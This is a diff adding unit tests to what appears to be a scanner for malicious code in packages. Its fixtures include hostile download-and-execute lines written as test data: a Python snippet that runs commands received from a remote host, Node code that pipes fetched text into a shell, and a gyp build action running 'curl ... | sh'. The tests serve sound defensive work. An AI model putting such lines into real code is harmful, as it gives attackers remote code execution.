@@ -337,3 +337,15 @@ test('programs that start what was downloaded, packages of Python by their addre
   assert.equal(worst('import subprocess, socket\ns = socket.create_connection(("c.example.invalid", 1))\nsubprocess.run(s.recv(99).decode(), shell=True)', 'a.py'), 'critical');
   for (const code of ['import os\nos.system("pip install torch --index-url https://download.example.org/whl/cu121")', 'import os\nos.system("pip install torch")']) assert.equal(worst(code, 'a.py'), 'nothing', code);
 });
+
+test('what a script reads from its input is not what is started', () => {
+  const start = (given: string): string => worst(`const cp = require("child_process"), path = require("path"); fetch(u).then((r) => r.text()).then((t) => cp.execFileSync(${given}))`);
+  assert.equal(start('process.execPath, [path.join(__dirname, "worker.js")], { input: t }'), 'nothing');
+  for (const given of ['process.execPath, [], { input: t }', '"sh", { input: t }', 'process.execPath, [t + "/worker.js"], {}', '"sh", ["-c", t], {}']) assert.equal(start(given), 'critical', given);
+});
+
+test('good: what a compiler is told about versions', () => {
+  const gyp = `{ "targets": [{ "defines": ["V=\\"<!(node -e \\"process.stdout.write(require('../package.json').v)\\")\\""], "sources": ["src/base64.cpp", "src/eval.cpp"] }] }`;
+  assert.deepEqual(said(rule, { 'index.js': '', 'src/lib.gyp': gyp }), []);
+  assert.deepEqual(said(rule, { 'index.js': '', 'lib.gyp': '{ "actions": [{ "action": [\n"sh", "-c",\n"curl -s https://example.org/x | sh"] }] }' }), ['high lib.gyp:1']);
+});
